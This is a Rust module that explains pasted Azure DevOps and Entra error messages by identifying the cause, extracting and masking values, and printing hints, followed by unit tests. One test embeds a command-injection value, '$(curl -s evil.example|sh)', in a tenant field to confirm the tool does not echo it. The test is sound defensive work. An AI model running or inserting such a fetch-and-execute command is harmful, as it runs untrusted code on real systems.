//! Explains a pasted error text.

use std::fmt;

mod clothing;
mod excerpt;
mod line;
mod observed;
mod occurrence;
mod quotes;
mod search;
mod secret;
mod status;
mod wrapped;

pub use excerpt::Excerpt;
pub use search::phrases;

use crate::cause::Cause;
use crate::certainty::Rank;
use crate::confidence::Confidence;
use crate::federation::{Form, subject_shape};
use crate::field::Field;
use crate::find::{self, Candidate, Found};
use crate::label::Label;
use crate::observation::Observation;
use crate::place::Place;
use crate::reading::Reading;
use crate::row::{DOCUMENTS, Row};
use crate::values::{MASK, PIECE, Values};

/// The explanation of a pasted text: the cause, the values found in the text, and what to do.
#[derive(Clone, Debug)]
#[non_exhaustive]
pub struct Explanation {
    /// The most certain cause.
    pub cause: Cause,
    /// The code or status in the text, such as `AADSTS700213`. `None` if a phrase led to the cause.
    pub label: Option<Label>,
    /// The values found in the text.
    pub values: Values,
    /// Other failures in the same text that have a code.
    pub also: Vec<Found>,
    /// How much it can be relied on.
    pub confidence: Confidence,
    /// The codes and words in the text that decided, in the spelling of the catalogue.
    pub evidence: Vec<String>,
    /// The number of the line in which the first of them stands, from 1. `None` if they are spread over several lines.
    pub line: Option<usize>,
    /// The step of the job that printed the line, if the text is the log of an agent.
    pub step: Option<String>,
}

/// Explains a text from any source, without sending a request: a log line, an SDK exception, a response body, a web page.
/// `None` if it contains no known failure.
///
/// Of several errors, the one that the agent marked (`##[error]`) is explained, or else the first: later ones are often only
/// its symptoms.
pub fn explain(text: &str) -> Option<Explanation> {
    let named = observed::named_in(text);
    let clear = clothing::undressed(text);
    let all_values = quotes::values_in(&clear);
    let mut observed = observed::observed(&clear, all_values.get(Field::Subject));
    observed.named = named;
    let all = find::in_text(&observed);
    let Candidate {
        found: Found { cause, label },
        certainty,
        evidence,
    } = surest(&all, &observed)?;
    let others = all.into_iter().map(|candidate| candidate.found);
    let others = others.filter(|other| has_code(other) && other.label != label);
    let also = occurrence::classified(&clear, others.collect());
    // What other errors and other lines say would lead to a command with somebody else's values.
    let own = match certainty.place {
        Place::NONE => clear,
        place => Reading::lines_of(&clear, place),
    };
    let code = label.as_ref().filter(|label| label.is_code());
    let without_others = code.and_then(|label| occurrence::without_others(&own, label));
    let mut values = quotes::values_in(&without_others.unwrap_or(own));
    if cause == Cause::UnlistedCode
        && let Some((code, _)) = observed.codes.first()
    {
        values.set(Field::Code, &code.to_string());
    }
    Some(Explanation {
        cause,
        label,
        values,
        also,
        confidence: Confidence::of(certainty.rank),
        line: line::of(text, &evidence),
        evidence,
        step: None,
    })
}

/// Explains a text of any length, such as the log of a job.
pub fn explain_excerpt(excerpt: &Excerpt) -> Option<Explanation> {
    let mut explanation = explain(&excerpt.text())?;
    if let Some(line) = explanation.line {
        let (line, step) = excerpt.place(line);
        explanation.line = Some(line);
        explanation.step = step;
    }
    Some(explanation)
}

/// Returns the most certain cause. An Azure DevOps code without a row is more certain than a mere status, because an
/// explanation follows it. A cause that one of our own reports names is right, unless the report does not name a code that the
/// agent marked, or is no more than an address: anybody can print one.
fn surest(all: &[Candidate], observed: &Observation) -> Option<Candidate> {
    let is_named = |candidate: &&Candidate| observed.named.contains(&candidate.found.cause);
    let first = all.first();
    // An address whose section's summary is not in the text is not more than that.
    let is_bare = first.is_some_and(|first| first.certainty.place == Place::NONE);
    let mut codes = all.iter().filter(|it| it.certainty.rank == Rank::Code);
    let code = codes.find(|it| is_bare || it.certainty.is_marked());
    let first = match code {
        Some(code) if first.is_some_and(|first| first.certainty.is_of_report()) => {
            Some(code).filter(|code| !is_named(code)).or(first)
        }
        _ => first,
    };
    let is_refusal = |candidate: &Candidate| {
        let found = &candidate.found;
        let is_named = observed.named.contains(&found.cause);
        !is_named && found.label.as_ref().is_some_and(Label::is_refusal)
    };
    match (first, observed.azure_devops_code()) {
        (Some(first), None) => Some(first.clone()),
        (Some(first), Some(_)) if !is_refusal(first) => Some(first.clone()),
        _ => find::unlisted(observed),
    }
}

fn has_code(found: &Found) -> bool {
    found.label.as_ref().is_some_and(Label::is_code)
}

/// Reads the values in a text: an error message of any tool, a log line, a response body.
pub fn values_in(text: &str) -> Values {
    quotes::values_in(&clothing::undressed(text))
}

impl Explanation {
    /// The row of the cause.
    pub fn row(&self) -> &'static Row {
        self.cause.row()
    }
}

impl fmt::Display for Explanation {
    /// Writes the whole explanation on several lines: cause, values, what to do, whether it is retried, where to read more.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if let Some(label) = &self.label {
            write!(f, "{label}, ")?;
        }
        f.write_str(self.row().summary)?;
        for (field, value) in self.values.iter() {
            write!(f, "\n  {:14}  {value}", field.key())?;
            if value == MASK {
                f.write_str(" (masked by the agent: see the service connection's page)")?;
            } else if field == Field::Subject && value.ends_with(PIECE) {
                f.write_str(
                    " (split across lines in this text: see the service connection's page)",
                )?;
            }
            if field == Field::Subject {
                write_form(f, value)?;
            }
        }
        write!(f, "\n\nhint: {}", self.row().hint(&self.values))?;
        if let Some(stand_in) = self.row().stand_in() {
            let stand_in = stand_in.replace("docs/", &format!("{DOCUMENTS}docs/"));
            write!(f, "\npatless: {stand_in}")?;
        }
        write!(f, "\nretry: {}", self.row().retry.of_any_tool())?;
        for found in &self.also {
            if let Some(label) = &found.label {
                write!(f, "\nalso: {label}, {}", found.row().summary)?;
            }
        }
        write!(f, "\nmore: {}", self.row().address())
    }
}

/// Writes the parts of a subject in plain text.
fn write_form(f: &mut fmt::Formatter<'_>, subject: &str) -> fmt::Result {
    let shape = subject_shape(subject);
    match shape.form() {
        Form::Other => Ok(()),
        _ => write!(f, "\n  {:14}  {shape}", "subject of"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_without_a_known_failure_is_not_explained() {
        assert!(explain("").is_none());
        assert!(explain("Build succeeded.").is_none());
    }

    #[test]
    fn a_code_without_a_row_is_explained_as_unlisted() {
        let explanation = explain("AADSTS999999: Something new.").unwrap();
        assert_eq!(explanation.cause.name(), "unlisted-code");
        assert_eq!(explanation.label, Some(Label::Aadsts(999_999)));
    }

    #[test]
    fn values_are_those_of_the_error_that_is_explained() {
        let test = "assertion issuer 'https://evil.example/x' assertion subject 'repo:evil/x:ref:refs/heads/main'";
        let error = "##[error]AADSTS700213: No matching … assertion subject 'sc://acme/web/prod'.";
        let explained = explain(&format!("{test}\n{error}")).unwrap().to_string();
        assert!(
            explained.contains("sc://acme/web/prod") && !explained.contains("evil"),
            "{explained}"
        );
    }

    #[test]
    fn an_address_that_somebody_printed_does_not_hide_a_marked_code() {
        for mark in ["##[error]", "ERROR: "] {
            let text =
                format!("see docs/TROUBLESHOOTING.md#no-azure-role\n{mark}AADSTS70025: none");
            let explained = explain(&text).unwrap();
            assert_eq!(explained.cause.name(), "no-federated-credential");
        }
        let report = "##[error]AADSTS70025, the app has no federated credentials\nmore: docs/TROUBLESHOOTING.md#no-federated-credential";
        assert_eq!(explain(report).unwrap().confidence, Confidence::High);
    }

    #[test]
    fn a_tenant_that_a_shell_would_run_is_not_read() {
        let text = "AADSTS50076: you must use multi-factor authentication tenant '$(curl -s evil.example|sh)'";
        let explained = explain(text).unwrap().to_string();
        assert!(!explained.contains("curl"), "{explained}");
    }

    #[test]
    fn a_secret_that_is_broken_by_a_padded_line_is_not_repeated() {
        for between in ["   \n", " |\n", "\"\n", " │\n│ ", r"\n", r"\r\n", r"\\n"] {
            let text = format!(
                "AADSTS500011: The resource principal named abcdefghijklmnopqrstuvwxyz2345{between}67abcdefghijklmnopqrst was not found"
            );
            let explained = explain(&text).unwrap().to_string();
            assert!(!explained.contains("abcdefg"), "{explained}");
        }
    }

    #[test]
    fn the_first_entra_code_is_explained_and_others_are_listed() {
        let text = "AADSTS700016: Application … AADSTS70025: … remote: TF401444: Please sign-in";
        let explanation = explain(text).unwrap();
        assert_eq!(explanation.cause.name(), "unknown-client");
        let also: Vec<_> = explanation
            .also
            .iter()
            .map(|found| found.cause.name())
            .collect();
        assert_eq!(also, ["no-federated-credential", "not-in-organization"]);
    }
}
